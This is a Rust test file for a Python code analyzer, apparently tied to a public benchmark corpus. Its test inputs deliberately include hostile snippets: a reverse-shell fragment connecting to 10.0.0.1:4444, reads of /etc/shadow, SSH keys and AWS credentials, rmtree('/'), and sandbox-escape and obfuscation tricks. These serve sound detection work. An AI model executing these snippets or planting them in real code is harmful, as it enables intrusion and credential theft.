//! Table tests for the code analyzer: every string case of the public corpus, each sink, each
//! indirection, benign programs, the parser's grammar coverage, limits and hostile input.

use super::*;

/// Expected outcome class of a table row.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Want {
    Clean,
    Ast,
    Regex,
    Unparseable,
    TooComplex,
    /// The corpus says only "blocked": any threat outcome.
    Blocked,
}

use Want::*;

fn class(report: &CodeReport) -> Want {
    match report.outcome {
        CodeOutcome::Clean => Clean,
        CodeOutcome::AstThreat => Ast,
        CodeOutcome::RegexThreat => Regex,
        CodeOutcome::Unparseable { .. } => Unparseable,
        CodeOutcome::TooComplex { .. } => TooComplex,
    }
}

fn matches_want(report: &CodeReport, want: Want) -> bool {
    let got = class(report);
    match want {
        Blocked => matches!(got, Ast | Regex),
        _ => got == want,
    }
}

fn check_table(rows: &[(&str, &str, Want, Option<&[&str]>)]) {
    let mut failures = Vec::new();
    for (id, source, want, threats) in rows {
        let report = analyze_python(source);
        let ok = matches_want(&report, *want)
            && threats.is_none_or(|expected| report.threats == expected);
        if !ok {
            failures.push(format!("{id}: {source:?} wanted {want:?} {threats:?}, got {report:?}"));
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

/// Every public-corpus `code` case whose `payload.code` is a non-empty string (code-014/015/018
/// are not strings: the caller handles them). `target` of public.jsonl, threats where given.
const CORPUS: &[(&str, &str, Want, Option<&[&str]>)] = &[
    ("code-003", "import math\nresult = math.sqrt(16)", Clean, None),
    ("code-005", "model.eval()", Clean, None),
    ("code-009", "   ", Clean, None),
    ("code-012", "x = 'subprocess'", Clean, None),
    ("code-021", "result = eval(\"1+1\")", Ast, Some(&["call:eval()"])),
    ("code-026", "ｅｖａｌ('1')", Ast, Some(&["call:eval()"])),
    ("code-034", "subprocess.Popen(['id'])", Ast, Some(&["call:subprocess.Popen()"])),
    // Reference findings first, then ours (the alias `r` is bound to a sink).
    (
        "code-041",
        "from subprocess import run as r",
        Ast,
        Some(&["import:subprocess", "import:subprocess.run"]),
    ),
    (
        "code-043",
        "from importlib import import_module",
        Ast,
        Some(&["import:importlib", "import:importlib.import_module"]),
    ),
    ("code-045", "import ctypes", Ast, Some(&["import:ctypes"])),
    ("code-046", "from ctypes import CDLL", Ast, Some(&["import:ctypes"])),
    ("code-055", "GETATTR(__BUILTINS__, 'x')", Regex, Some(&["getattr_builtin"])),
    ("code-056", "__builtins__.__dict__['exec']('1')", Regex, Some(&["builtins_dict_access"])),
    ("code-057", "import base64\nx = base64.b64decode('aGk=')", Clean, None),
    ("code-058", "from base64 import b64decode\nb64decode('aGk=')", Regex, Some(&["base64_exec"])),
    ("code-059", "import builtins\nbuiltins.__import__('os')", Regex, Some(&["dynamic_import"])),
    ("code-061", "msg = 'os.popen( is banned'", Clean, None),
    ("code-062", "OS.SYSTEM('x')", Regex, Some(&["os_system"])),
    ("code-066", "const cp = require('child_process');", Unparseable, None),
    ("code-068", "x = 1\u{0000}", Unparseable, None),
    ("code-069", "if True:\nprint(1)", Unparseable, None),
    ("code-070", "type X = int", Unparseable, None),
    ("code-075", "__builtins__['eval']('1+1')", Blocked, Some(&["call:eval()"])),
    ("code-076", "import builtins\nbuiltins.eval('1+1')", Blocked, Some(&["call:eval()"])),
    (
        "code-087",
        "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)",
        Blocked,
        Some(&["call:os.dup2()"]),
    ),
    ("code-090", "import multiprocessing", Clean, None),
    ("code-095", "require('child_process').exec('ls')", Clean, None),
    (
        "code-096",
        "import marshal, types\nf = types.FunctionType(marshal.loads(b''), {})",
        Blocked,
        Some(&["call:marshal.loads()"]),
    ),
    (
        "code-097",
        "getattr(__import__('builtins'), 'ev' + 'al')('1')",
        Ast,
        Some(&["call:__import__()", "call:eval()"]),
    ),
    ("code-104", "from . import subprocess", Blocked, Some(&["import:subprocess"])),
    ("code-106", "еval('1')", Clean, None),
    ("code-114", "subprocess = None\nsubprocess.run()", Ast, Some(&["call:subprocess.run()"])),
    ("code-117", "exec\n('1')", Clean, None),
    (
        "code-119",
        "from os import *\npopen('id')",
        Blocked,
        Some(&["import:os.*", "call:os.popen()"]),
    ),
];

#[test]
fn corpus_string_cases_match_targets() {
    check_table(CORPUS);
}

#[test]
fn corpus_generated_cases_match_targets() {
    let nested = format!("{}1{}", "(".repeat(201), ")".repeat(201));
    let sum_100k = format!("x = {}", vec!["1"; 100_000].join("+"));
    let not_5000 = format!("x = {}1", "not ".repeat(5000));
    let sum_2000 = format!("x = {}", vec!["1"; 2000].join("+"));
    assert_eq!(nested.len(), 403);
    assert_eq!(sum_100k.len(), 200_003);
    assert_eq!(not_5000.len(), 20_005);
    assert_eq!(sum_2000.len(), 4003);
    check_table(&[
        ("code-067", &nested, Unparseable, None),
        ("code-121", &sum_100k, TooComplex, None),
        ("code-122", &not_5000, TooComplex, None),
        ("code-124", &sum_2000, Clean, None),
    ]);
}

#[test]
fn missing_sinks_are_blocked() {
    check_table(&[
        ("os.execv", "import os\nos.execv('/bin/sh', ['sh'])", Ast, Some(&["call:os.execv()"])),
        ("os.execlp", "import os\nos.execlp('sh', 'sh')", Ast, Some(&["call:os.execlp()"])),
        (
            "os.spawnl",
            "import os\nos.spawnl(os.P_WAIT, '/bin/sh', 'sh')",
            Ast,
            Some(&["call:os.spawnl()"]),
        ),
        (
            "os.posix_spawn",
            "import os\nos.posix_spawn('/bin/sh', ['sh'], {})",
            Ast,
            Some(&["call:os.posix_spawn()"]),
        ),
        (
            "os.posix_spawnp",
            "import os\nos.posix_spawnp('sh', ['sh'], {})",
            Ast,
            Some(&["call:os.posix_spawnp()"]),
        ),
        ("posix.system", "import posix\nposix.system('id')", Ast, Some(&["call:posix.system()"])),
        (
            "shutil.rmtree",
            "import shutil\nshutil.rmtree('/')",
            Ast,
            Some(&["call:shutil.rmtree()"]),
        ),
        ("pickle.loads", "import pickle\npickle.loads(data)", Ast, Some(&["call:pickle.loads()"])),
        (
            "pickle.load",
            "import pickle\npickle.load(open('x', 'rb'))",
            Ast,
            Some(&["call:pickle.load()"]),
        ),
        ("marshal.load", "import marshal\nmarshal.load(f)", Ast, Some(&["call:marshal.load()"])),
        (
            "from pickle import loads",
            "from pickle import loads\nloads(b'')",
            Ast,
            Some(&["import:pickle.loads", "call:pickle.loads()"]),
        ),
        (
            "runpy import",
            "import runpy\nrunpy.run_path('x.py')",
            Ast,
            Some(&["import:runpy", "call:runpy.run_path()"]),
        ),
        (
            "asyncio shell",
            "import asyncio\nasyncio.create_subprocess_shell('id')",
            Ast,
            Some(&["call:asyncio.create_subprocess_shell()"]),
        ),
        (
            "asyncio exec",
            "import asyncio\nawait asyncio.create_subprocess_exec('id')",
            Ast,
            Some(&["call:asyncio.create_subprocess_exec()"]),
        ),
        (
            "subprocess.getoutput",
            "import subprocess\nsubprocess.getoutput('id')",
            Ast,
            Some(&["import:subprocess", "call:subprocess.getoutput()"]),
        ),
        ("open /etc/passwd", "print(open('/etc/passwd').read())", Ast, Some(&["file:/etc/passwd"])),
        ("open ssh key", "open('/home/u/.ssh/id_rsa')", Ast, Some(&["file:/home/u/.ssh/id_rsa"])),
        (
            "open home",
            "data = open(file='~/.aws/credentials').read()",
            Ast,
            Some(&["file:~/.aws/credentials"]),
        ),
        (
            "pathlib shadow",
            "import pathlib\npathlib.Path('/etc/shadow').read_text()",
            Ast,
            Some(&["file:/etc/shadow"]),
        ),
        (
            "io.open proc",
            "import io\nio.open('/proc/self/environ')",
            Ast,
            Some(&["file:/proc/self/environ"]),
        ),
        (
            "subclasses escape",
            "().__class__.__base__.__subclasses__()",
            Ast,
            Some(&["attr:__subclasses__"]),
        ),
        ("globals escape", "f.__globals__['os']", Ast, Some(&["attr:__globals__"])),
        ("getattr dunder", "getattr(x, '__subclasses__')()", Ast, Some(&["attr:__subclasses__"])),
        (
            "pty.spawn",
            "import pty\npty.spawn('/bin/sh')",
            Ast,
            Some(&["import:pty", "call:pty.spawn()"]),
        ),
        (
            "importlib call",
            "import importlib\nimportlib.import_module('os').system('id')",
            Ast,
            Some(&["import:importlib", "call:os.system()", "call:importlib.import_module()"]),
        ),
    ]);
}

#[test]
fn indirections_are_tracked() {
    check_table(&[
        ("import alias (071)", "import os as o\no.system('id')", Ast, Some(&["call:os.system()"])),
        (
            "star import (072)",
            "from os import *\nsystem('id')",
            Ast,
            Some(&["import:os.*", "call:os.system()"]),
        ),
        (
            "getattr constant (073)",
            "import os\ngetattr(os, 'system')('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        (
            "getattr folded",
            "import os\ngetattr(os, 'sys' + 'tem')('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        (
            "assignment (074)",
            "import os\nf = os.system\nf('id')",
            Ast,
            Some(&["ref:os.system", "call:os.system()"]),
        ),
        (
            "assignment later",
            "def g():\n    f('id')\nimport os\nf = os.system",
            Ast,
            Some(&["ref:os.system", "call:os.system()"]),
        ),
        ("builtin alias (077)", "e = eval\ne('1')", Ast, Some(&["ref:eval", "call:eval()"])),
        ("container (078)", "[eval][0]('1')", Ast, Some(&["call:eval()", "ref:eval"])),
        ("map (079)", "list(map(eval, ['1']))", Ast, Some(&["ref:eval"])),
        ("key= (099)", "sorted(['1'], key=eval)", Ast, Some(&["ref:eval"])),
        ("builtins subscript (075)", "__builtins__['exec']('1')", Ast, Some(&["call:exec()"])),
        ("builtins attribute (102)", "__builtins__.exec('1')", Ast, Some(&["call:exec()"])),
        (
            "globals table (091)",
            "globals()['__builtins__']['eval']('1')",
            Ast,
            Some(&["call:eval()"]),
        ),
        ("vars table (092)", "vars(__builtins__)['eval']('1')", Ast, Some(&["call:eval()"])),
        (
            "builtins module (076)",
            "import builtins\nbuiltins.exec('1')",
            Ast,
            Some(&["call:exec()"]),
        ),
        (
            "sys.modules (084)",
            "import sys\nsys.modules['os'].system('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        (
            "module dict (093)",
            "import os\nos.__dict__['system']('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        ("module alias var", "import os\nm = os\nm.popen('id')", Ast, Some(&["call:os.popen()"])),
        (
            "tuple unpack",
            "import os, sys\na, b = os, sys\na.system('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        (
            "for target",
            "import os\nfor m in [os]:\n    m.system('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        (
            "walrus",
            "import os\n(s := os.system)('id')",
            Ast,
            Some(&["call:os.system()", "ref:os.system"]),
        ),
        (
            "import_module alias",
            "from importlib import import_module as im\nim('os').system('x')",
            Ast,
            None,
        ),
        (
            "__import__ then attr",
            "__import__('os').system('id')",
            Ast,
            Some(&["call:__import__()", "call:os.system()"]),
        ),
        ("dynamic getattr on os", "import os\ngetattr(os, name)('id')", Ast, Some(&["dynamic:os"])),
        ("dynamic builtins key", "__builtins__[k]('1')", Ast, Some(&["dynamic:builtins"])),
        ("dynamic sys.modules", "import sys\nsys.modules[n]", Ast, Some(&["dynamic:sys.modules"])),
        ("dynamic globals", "globals()[name]()", Ast, Some(&["dynamic:globals"])),
        ("lambda wrapper", "g = lambda c: os.system(c)", Ast, Some(&["call:os.system()"])),
        ("default argument", "def f(x, run=eval):\n    return run(x)", Ast, Some(&["ref:eval"])),
        ("relative from-module", "from .subprocess import run\nrun('id')", Ast, None),
        (
            "NFKC attribute (038)",
            "import os\nos.ｓｙｓｔｅｍ('id')",
            Ast,
            Some(&["call:os.system()"]),
        ),
        ("NFKC import", "from ｏｓ import ｓｙｓｔｅｍ", Ast, Some(&["import:os.system"])),
        ("fstring code", "x = f\"{__import__('os')}\"", Ast, Some(&["call:__import__()"])),
        ("regex in comment only (060)", "x = 1  # os.system('rm -rf /')", Clean, None),
    ]);
}

#[test]
fn reference_findings_keep_reference_order() {
    // ast.walk is breadth-first: the import (depth 2) before the calls (depth 3).
    check_table(&[(
        "order",
        "subprocess.run('a')\nimport subprocess\neval('1')\neval('2')",
        Ast,
        Some(&["import:subprocess", "call:subprocess.run()", "call:eval()", "call:eval()"]),
    )]);
}

#[test]
fn benign_programs_stay_clean() {
    check_table(&[
        (
            "docstring",
            "def f():\n    \"\"\"Never call os.system('x') or eval().\"\"\"\n    return 1",
            Clean,
            None,
        ),
        ("comment", "# subprocess.run(['rm'])\nx = 2", Clean, None),
        ("literal_eval", "import ast\nx = ast.literal_eval('[1, 2]')", Clean, None),
        ("evaluate", "def evaluate(x):\n    return x * 2\nevaluate(3)", Clean, None),
        ("json", "import json\ndata = json.loads('{}')", Clean, None),
        ("base64 alone", "import base64\nprint(base64.b64decode(b'aGk=').decode())", Clean, None),
        ("urlsafe", "import base64\nbase64.urlsafe_b64decode('aGk=')", Clean, None),
        ("re.compile", "import re\np = re.compile(r'\\d+')", Clean, None),
        (
            "os.path",
            "import os\np = os.path.join('a', 'b')\nos.makedirs(p, exist_ok=True)",
            Clean,
            None,
        ),
        ("open relative", "with open('out.txt', 'w') as f:\n    f.write('x')", Clean, None),
        ("open tmp", "open('/tmp/report.csv').read()", Clean, None),
        ("model.eval", "import torch\nmodel = torch.nn.Linear(2, 2)\nmodel.eval()", Clean, None),
        ("method exec", "cursor.execute('SELECT 1')\nconn.exec('x')", Clean, None),
        ("getattr plain", "value = getattr(obj, name, None)", Clean, None),
        ("dict lookup", "config[key] = settings['system']", Clean, None),
        ("pickle dumps", "import pickle\nblob = pickle.dumps({'a': 1})", Clean, None),
        ("os.environ", "import os\nhome = os.environ[key]", Clean, None),
        ("string mention", "print('use subprocess.run or eval(x) carefully')", Clean, None),
        ("class", "class Exec:\n    def eval(self):\n        return 1\nExec().eval()", Clean, None),
        (
            "match",
            "match cmd:\n    case ['go', d]:\n        move(d)\n    case _:\n        pass",
            Clean,
            None,
        ),
        (
            "async",
            "import asyncio\nasync def main():\n    await asyncio.sleep(1)\nasyncio.run(main())",
            Clean,
            None,
        ),
    ]);
}

#[test]
fn parser_accepts_python_3_11_grammar() {
    let sources = [
        "match p:\n    case Point(x=0, y=yy) if yy > 0:\n        pass\n    case [a, *rest]:\n        pass\n    case {'k': v, **kw}:\n        pass\n    case 1 | 2 | None:\n        pass",
        "if (n := len(a)) > 10:\n    print(n)",
        "x = f'{a!r:>{width}} {b=} {c:.2f}'",
        "try:\n    pass\nexcept* ValueError as e:\n    pass",
        "@dec\n@dec2(1)\ndef f(a, /, b=1, *c, d, e=2, **g) -> int:\n    return a",
        "async def f():\n    async with a as b:\n        async for x in y:\n            await z",
        "with (open('a') as f, open('b') as g):\n    pass",
        "x = [y for y in range(3) if y]\ny = {k: v for k, v in z}\nlambda *a, **k: 0",
        "class A(B, metaclass=M):\n    x: int = 1",
        "def g():\n    yield from h()\n    nonlocal_value = (yield)",
        "\u{feff}_ = 1",
    ];
    for source in sources {
        let report = analyze_python(source);
        let expect_unparseable = source.starts_with('\u{feff}');
        assert_eq!(
            matches!(report.outcome, CodeOutcome::Unparseable { .. }),
            expect_unparseable,
            "{source:?} -> {report:?}"
        );
    }
}

#[test]
fn parser_rejects_what_cpython_3_11_rejects() {
    let cases: &[(&str, &str)] = &[
        ("print 'hi'", "invalid syntax"),
        ("ls -la /", "invalid syntax"),
        ("cat /etc/passwd | grep root", "invalid syntax"),
        ("function f() { return 1; }", "invalid syntax"),
        ("x = '\u{0}'", "null bytes"),
        ("\u{feff}x = 1", "U+FEFF"),
        ("x = 1\u{feff}", "U+FEFF"),
        ("x = 1\u{200b}", "U+200B"),
        ("  x = 1", "unexpected indent"),
        ("if x:\n\tpass\n        pass", "tabs and spaces"),
        ("type X = int", "invalid syntax (<unknown>, line 1)"),
        ("x = 1\ndef f[T](x: T) -> T:\n    return x", "line 2"),
        ("class C[T]:\n    pass", "invalid syntax"),
        ("1 = x", "cannot assign to literal"),
        ("f() = 1", "cannot assign to function call"),
        ("del f()", "cannot delete function call"),
        ("[a, b] += 1", "illegal expression for augmented assignment"),
        ("(a.b := 1)", ""),
        ("(f() := 1)", ""),
        ("for f() in x:\n    pass", "cannot assign to function call"),
        ("x = 0777", ""),
        ("x = `1`", ""),
        ("x <> y", ""),
        ("exec 'x'", ""),
    ];
    for (source, needle) in cases {
        match analyze_python(source).outcome {
            CodeOutcome::Unparseable { message } => {
                assert!(message.contains(needle), "{source:?}: {message}");
            }
            other => panic!("{source:?} should be unparseable, got {other:?}"),
        }
    }
}

#[test]
fn cpython_limits_are_matched_exactly() {
    let parens = |n: usize| format!("{}1{}", "(".repeat(n), ")".repeat(n));
    let mixed = |n: usize| format!("x = {}1{}", "[{(".repeat(n / 3), ")}]".repeat(n / 3));
    let indent = |n: usize| {
        let mut s = String::new();
        for i in 0..n {
            s.push_str(&" ".repeat(i));
            s.push_str("if a:\n");
        }
        s.push_str(&" ".repeat(n));
        s.push_str("pass\n");
        s
    };
    let sum = |n: usize| format!("x = {}", vec!["1"; n].join("+"));
    let nots = |n: usize| format!("x = {}1", "not ".repeat(n));
    let attrs = |n: usize| format!("x = a{}", ".b".repeat(n));
    let calls = |n: usize| format!("x = a{}", "()".repeat(n));
    let elifs = |n: usize| format!("if a: pass\n{}", "elif a: pass\n".repeat(n));
    let ternary = |n: usize| format!("x = {}1", "a if b else ".repeat(n));
    // Thresholds measured with CPython 3.11.7 `ast.parse` (last accepted, first refused).
    let rows: Vec<(String, bool, String, &str)> = vec![
        (parens(200), true, parens(201), "parens"),
        (mixed(198), true, mixed(201), "mixed brackets"),
        (indent(99), true, indent(100), "indentation"),
        (sum(2986), true, sum(2987), "sum"),
        (nots(2985), true, nots(2986), "not"),
        (attrs(2985), true, attrs(2986), "attribute chain"),
        (calls(2985), true, calls(2986), "call chain"),
        (elifs(2985), true, elifs(2986), "elif chain"),
        (ternary(2985), true, ternary(2986), "ternary"),
    ];
    for (accepted, _, refused, what) in rows {
        let ok = analyze_python(&accepted);
        assert!(
            matches!(ok.outcome, CodeOutcome::Clean),
            "{what}: the last accepted size must analyse, got {:?}",
            ok.outcome
        );
        let refused = analyze_python(&refused);
        assert!(
            matches!(
                refused.outcome,
                CodeOutcome::TooComplex { .. } | CodeOutcome::Unparseable { .. }
            ),
            "{what}: the first refused size must be refused, got {:?}",
            refused.outcome
        );
    }
}

#[test]
fn too_complex_carries_cpython_message() {
    let report = analyze_python(&format!("x = {}1", "-".repeat(50_000)));
    assert_eq!(
        report.outcome,
        CodeOutcome::TooComplex {
            message: "maximum recursion depth exceeded during ast construction".to_owned()
        }
    );
    // Deep trees the token bound cannot see are measured exactly during the walk.
    let hidden = format!("x = f'{{{}}}'", vec!["1"; 5000].join("+"));
    assert!(matches!(analyze_python(&hidden).outcome, CodeOutcome::TooComplex { .. }));
    let mixed = format!("x = {}", vec!["a.b*c"; 4000].join("+"));
    assert!(matches!(analyze_python(&mixed).outcome, CodeOutcome::TooComplex { .. }));
}

#[test]
fn analysis_labels_match_the_reference() {
    assert_eq!(analyze_python("x = 1").analysis.as_str(), "ast+regex");
    assert_eq!(analyze_python("eval('1')").analysis.as_str(), "ast");
    assert_eq!(analyze_python("OS.SYSTEM('x')").analysis.as_str(), "regex");
    assert_eq!(analyze_python("import os as o\no.system('x')").analysis.as_str(), "ast");
}

/// Deterministic xorshift generator: no external crate, reproducible failures.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % (n as u64)).unwrap_or(0)
    }
}

/// Runs `f` on a thread with a small stack: the analyzer must not need deep recursion.
fn on_small_stack<F: FnOnce() + Send + 'static>(f: F) {
    let handle =
        std::thread::Builder::new().stack_size(1 << 20).spawn(f).map(std::thread::JoinHandle::join);
    assert!(matches!(handle, Ok(Ok(()))), "analysis thread failed");
}

#[test]
fn hostile_input_never_panics_or_overflows() {
    on_small_stack(|| {
        let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
        let pieces = [
            "(",
            ")",
            "[",
            "]",
            "{",
            "}",
            "not ",
            "-",
            "+",
            "~",
            "lambda: ",
            "a",
            ".",
            "1",
            "'s'",
            "f'{",
            "}'",
            "\n",
            "    ",
            "\t",
            "if ",
            "else ",
            ":",
            "=",
            ",",
            "*",
            "**",
            "eval",
            "os.system",
            "__builtins__",
            "#",
            "\\",
            "\"\"\"",
            "await ",
            "yield ",
            "ｅｖａｌ",
            "\u{feff}",
            "\u{0}",
            "é",
            "elif ",
            "def f(",
            "class C",
            "@",
            ":=",
        ];
        for _ in 0..400 {
            let len = rng.below(200);
            let mut source = String::new();
            for _ in 0..len {
                source.push_str(pieces[rng.below(pieces.len())]);
            }
            let _ = analyze_python(&source);
        }
        for _ in 0..200 {
            let bytes: Vec<u8> = (0..rng.below(300)).map(|_| (rng.next() & 0xff) as u8).collect();
            let _ = analyze_python(&String::from_utf8_lossy(&bytes));
            let chars: String = (0..rng.below(100))
                .filter_map(|_| char::from_u32((rng.next() % 0x3_0000) as u32))
                .collect();
            let _ = analyze_python(&chars);
        }
        // Depth beyond every limit, in shapes the token bound does and does not catch.
        let deep = [
            "(".repeat(100_000),
            "[".repeat(100_000) + &"]".repeat(100_000),
            format!("x = {}1", "lambda: ".repeat(4_000)),
            format!("x = {}", vec!["2"; 4_000].join("**")),
            format!("x = {}", vec!["f(1)"; 4_000].join("+")),
            format!("if a: pass\n{}", "elif a: pass\n".repeat(4_000)),
            format!("x = f'{{{}}}'", vec!["1"; 4_000].join("-")),
            format!("x = {}1", "a if b else ".repeat(4_000)),
            "x = 1\n".repeat(50_000),
        ];
        for source in &deep {
            let report = analyze_python(source);
            assert!(!matches!(report.outcome, CodeOutcome::AstThreat), "{report:?}");
        }
    });
}
